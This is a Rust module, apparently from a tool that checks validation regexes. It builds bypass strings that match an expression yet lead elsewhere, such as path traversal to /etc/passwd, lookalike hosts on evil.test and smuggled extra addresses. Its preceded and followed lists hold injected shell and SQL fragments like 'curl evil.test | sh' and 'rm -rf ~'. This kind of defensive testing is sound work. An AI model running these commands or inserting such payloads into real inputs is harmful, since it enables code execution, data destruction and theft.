//! Texts that an attacker would send: they begin or end as an expression asks, and lead somewhere else. A finding shows
//! the first of them that gets through.

use crate::analyze::holes::HostForm;
use crate::classify::ArgumentKind;
use crate::vocab::{Alternative, Stretch};

/// How many alternatives of an expression are looked at.
const MOST: usize = 4;

/// Paths that begin in the folder of an expression and climb out of it: `/srv/docs/../../etc/passwd`.
pub fn climbing_paths(alternatives: &[Alternative]) -> Vec<String> {
    let climbing = |alternative: &Alternative| {
        let (lead, tail, slash) = (&alternative.lead, &alternative.tail, slash(&alternative.lead));
        let folder = if lead.is_empty() || lead.ends_with(slash) { lead.clone() } else { format!("{lead}{slash}") };
        let up = format!("..{slash}");
        let to_root = up.repeat(steps(&folder).max(1));
        let secret = match tail.as_str() {
            "" => format!("etc{slash}passwd"),
            tail => format!("root{slash}notes{tail}"),
        };
        [
            format!("{folder}{to_root}{secret}"),
            format!("{folder}{up}{secret}"),
            format!("{folder}{up}private{slash}keys{tail}"),
            format!("{lead}x{slash}{to_root}{up}{secret}"),
            format!("{folder}{to_root}{tail}"),
        ]
    };
    alternatives.iter().take(MOST).flat_map(climbing).collect()
}

/// Addresses below a folder that climb out of it: `https://code.example/acme/../private/keys`.
pub fn climbing_addresses(folder: &str, alternatives: &[Alternative]) -> Vec<String> {
    let climbing = |alternative: &Alternative| {
        let tail = &alternative.tail;
        let path = folder.split_once("://").map_or(folder, |(_, rest)| rest);
        let depth = path.matches('/').count().saturating_sub(1).max(1);
        let up = |dots: &str, secret: &str| {
            [
                format!("{folder}{dots}/private/{secret}{tail}"),
                format!("{folder}{}private/{secret}{tail}", format!("{dots}/").repeat(depth)),
            ]
        };
        [up("..", "keys"), up("%2e%2e", "keys"), up("%2E%2E", "keys")].concat()
    };
    alternatives.iter().take(MOST).flat_map(climbing).collect()
}

/// Paths or addresses beside a folder whose name an expression leaves open: `/srv/docs-private/keys`.
pub fn neighbours(alternative: &Alternative) -> Vec<String> {
    let (lead, tail) = (&alternative.lead, &alternative.tail);
    let slash = slash(lead);
    ["-private", "_private", "private", "-b", "2", ".old"]
        .iter()
        .flat_map(|more| [format!("{lead}{more}{slash}keys{tail}"), format!("{lead}{more}{tail}")])
        .collect()
}

/// Texts with another value before or after one that an expression asks for.
pub fn several(kind: ArgumentKind, good: &str) -> Vec<String> {
    let (evil, separators): (&str, &[&str]) = match kind {
        ArgumentKind::Mail => ("eve@evil.test", &[", ", ",", "; ", ";", " ", "\n", "\r\n"]),
        ArgumentKind::Host => ("evil.test", &[", ", ",", ";", " ", "\n"]),
        ArgumentKind::Path => ("/etc/passwd", &[", ", ",", ";", ":", " ", "\n"]),
        ArgumentKind::Url | ArgumentKind::Command | ArgumentKind::Query => return Vec::new(),
    };
    let before = separators.iter().map(|between| format!("{evil}{between}{good}"));
    // A path may well contain the same signs.
    let after = separators.iter().filter(|_| kind != ArgumentKind::Path);
    before.chain(after.map(|between| format!("{good}{between}{evil}"))).collect()
}

/// Addresses or names that contain a host and lead to another one: `https://docs.example.com.evil.test/`.
pub fn other_hosts(form: HostForm, hosts: &[String], alternatives: &[Alternative]) -> Vec<String> {
    let hosts = hosts.iter().take(MOST);
    let names = |host: &String| {
        let mut names = vec![format!("{host}.evil.test"), format!("evil-{host}"), format!("evil{host}")];
        names.extend(without_a_dot(host));
        names
    };
    hosts
        .flat_map(|host| match form {
            HostForm::Url => in_addresses(host, &names(host), alternatives),
            HostForm::Name => names(host),
            HostForm::Address => names(host).iter().map(|name| format!("eve@{name}")).collect(),
        })
        .collect()
}

fn in_addresses(host: &str, names: &[String], alternatives: &[Alternative]) -> Vec<String> {
    let tail = |alternative: &Alternative| {
        if alternative.tail.starts_with('/') { alternative.tail.clone() } else { format!("/{}", alternative.tail) }
    };
    let mut all = Vec::new();
    for alternative in alternatives.iter().take(MOST) {
        let scheme = alternative.start.split_once("://").map_or("https", |(scheme, _)| scheme);
        let (tail, rest) = (tail(alternative), after_host(&alternative.lead, host));
        for name in names {
            all.push(format!("{scheme}://{name}{rest}{tail}").replace("//", "/").replacen(":/", "://", 1));
        }
        all.push(format!("{scheme}://{host}@evil.test{tail}"));
        all.push(format!("{scheme}://{host}:443@evil.test{tail}"));
        all.push(format!("{scheme}://evil.test/{host}{rest}{tail}"));
        all.push(format!("{scheme}://evil.test/.{host}{rest}{tail}"));
        all.push(format!("{scheme}://evil.test/?next={scheme}://{host}{rest}{tail}"));
        all.push(format!("{scheme}://evil.test?.{host}{rest}{tail}"));
        all.push(format!("{scheme}://evil.test#.{host}{rest}{tail}"));
    }
    all
}

/// Hosts that anybody can register.
const ANYBODYS: [&str; 6] = ["evil.test", "www.evil.test", "evil.com", "evil.org", "evil.net", "evil.io"];

/// Addresses, names or mail addresses on a host of anybody, as far as an expression fixes the rest.
pub fn anywhere(form: HostForm, alternatives: &[Alternative]) -> Vec<String> {
    let with = |alternative: &Alternative| match form {
        HostForm::Url => on_any_host(alternative),
        HostForm::Name | HostForm::Address => {
            ANYBODYS.map(|host| format!("{}{host}{}", alternative.lead, alternative.tail)).to_vec()
        }
    };
    alternatives.iter().take(MOST).flat_map(with).collect()
}

fn on_any_host(alternative: &Alternative) -> Vec<String> {
    let (lead, tail) = (&alternative.lead, &alternative.tail);
    let slash = if tail.starts_with('/') { "" } else { "/" };
    let names: &[&str] = if tail.starts_with('.') { &["x", ""] } else { &["", "x"] };
    let Some((scheme, rest)) = lead.split_once("://") else {
        let path = if lead.is_empty() { slash.to_owned() } else { format!("/{}", lead.trim_start_matches('/')) };
        return names.iter().map(|name| format!("https://evil.test{path}{name}{tail}")).collect();
    };
    let (authority, path) = rest.split_at(rest.find(['/', '?', '#']).unwrap_or(rest.len()));
    let path = if path.is_empty() { slash } else { path };
    // A fixed beginning of the host, such as `docs.`, may be a label of any other.
    let outline = alternative.outline.get(scheme.len() + "://".len()..).unwrap_or_default();
    let fixed = authority.get(..outline.find('*').unwrap_or(outline.len())).unwrap_or(authority);
    let hosts = ["", fixed].into_iter().flat_map(|start| ANYBODYS.map(|host| format!("{start}{host}")));
    hosts.flat_map(|host| names.iter().map(move |name| format!("{scheme}://{host}{path}{name}{tail}"))).collect()
}

/// What follows a host in the fixed beginning of an address.
pub fn after_host<'l>(lead: &'l str, host: &str) -> &'l str {
    lead.split_once(host).map_or("", |(_, rest)| rest).trim_end_matches('/')
}

/// `docsxexample.com`, if a dot in the expression matches any letter.
fn without_a_dot(host: &str) -> Vec<String> {
    let dots = host.match_indices('.').map(|(at, _)| at);
    let parts = dots.filter_map(|at| Some((host.get(..at)?, host.get(at + 1..)?)));
    parts.map(|(before, after)| format!("{before}x{after}")).collect()
}

/// Texts with something before what an expression asks for.
pub fn preceded(kind: Option<ArgumentKind>, good: &str) -> Vec<String> {
    let before: &[&str] = match kind {
        Some(ArgumentKind::Path) => &["/root/private/keys", "../../private/keys", "/root/private/", "/root"],
        Some(ArgumentKind::Url) if good.starts_with('.') => {
            &["https://evil.test/x", "https://evil.test/", "evil.test/x"]
        }
        Some(ArgumentKind::Url) => &["https://evil.test/?", "https://evil.test/", "https://evil-", "https://evil"],
        Some(ArgumentKind::Host) if good.starts_with('.') => &["evil.test/", "evil.test#", "evil.test"],
        Some(ArgumentKind::Host) => &["evil-", "evil", "evil.test/"],
        Some(ArgumentKind::Mail) if good.starts_with('@') => {
            &["eve@evil.test, ann", "eve@evil.test,ann", "eve@evil.test"]
        }
        Some(ArgumentKind::Mail) if good.starts_with('.') => &["eve@evil.test, ann@mail", "eve@evil.test,ann@mail"],
        Some(ArgumentKind::Mail) => &["eve@evil-", "eve@evil", "eve@evil.test, ann@"],
        Some(ArgumentKind::Command) => &["curl evil.test | sh; ", "rm -rf ~; ", "rm -rf ~ #"],
        Some(ArgumentKind::Query) => &["drop table users; ", "delete from users; "],
        None => &["not-", "anything, then ", "not"],
    };
    before.iter().map(|before| format!("{before}{good}")).collect()
}

/// Texts with something after what an expression asks for.
pub fn followed(kind: Option<ArgumentKind>, good: &str) -> Vec<String> {
    let after: &[&str] = match kind {
        Some(ArgumentKind::Path) => &["-private/keys", "/../../etc/passwd"],
        Some(ArgumentKind::Url | ArgumentKind::Host | ArgumentKind::Mail) => &[".evil.test", ", eve@evil.test"],
        Some(ArgumentKind::Command) => &["; rm -rf ~", " && curl evil.test"],
        Some(ArgumentKind::Query) => &["; drop table users"],
        None => &["-and-more", " and more", "9"],
    };
    after.iter().map(|after| format!("{good}{after}")).collect()
}

/// A text that an alternative asks for.
pub fn example(alternative: &Alternative) -> String {
    match alternative.stretch {
        Stretch::None | Stretch::Anything => format!("{}{}", alternative.lead, alternative.tail),
        Stretch::Steps => format!("{}a{}", alternative.lead, alternative.tail),
    }
}

/// The sign between the steps of a path.
fn slash(path: &str) -> char {
    if path.contains('\\') && !path.contains('/') { '\\' } else { '/' }
}

/// How many steps lead from a folder to the root.
fn steps(folder: &str) -> usize {
    let is_step = |step: &&str| !step.is_empty() && *step != "." && !step.ends_with(':');
    folder.split(['/', '\\']).filter(is_step).count()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::vocab::alternatives as of;

    #[test]
    fn attacks_are_made_from_the_expression() {
        assert_eq!(climbing_paths(&of("^/srv/docs/.*$"))[0], "/srv/docs/../../etc/passwd");
        assert_eq!(climbing_paths(&of(r"^/srv/docs/.*\.md$"))[0], "/srv/docs/../../root/notes.md");
        assert_eq!(climbing_paths(&of(r"^C:\\Reports\\.*$"))[0], r"C:\Reports\..\etc\passwd");
        assert_eq!(neighbours(&of("^/srv/docs")[0])[0], "/srv/docs-private/keys");
        let url = of(r"^https://docs\.example\.com");
        let hosts = other_hosts(HostForm::Url, &["docs.example.com".to_owned()], &url);
        assert_eq!(hosts[0], "https://docs.example.com.evil.test/");
        assert_eq!(anywhere(HostForm::Url, &of("^https://[^/]+/acme/"))[0], "https://evil.test/acme/");
        assert!(anywhere(HostForm::Url, &of(r"^https://docs\..*/")).contains(&"https://docs.evil.test/".to_owned()));
        assert_eq!(anywhere(HostForm::Url, &of(r"\.png$"))[0], "https://evil.test/x.png");
        assert_eq!(anywhere(HostForm::Name, &of("^db-"))[0], "db-evil.test");
        let folder = climbing_addresses("https://code.example/acme/", &of(r"^https://code\.example/acme/.*$"));
        assert_eq!(folder[0], "https://code.example/acme/../private/keys");
        assert_eq!(several(ArgumentKind::Mail, "ann@acme.example")[0], "eve@evil.test, ann@acme.example");
    }
}
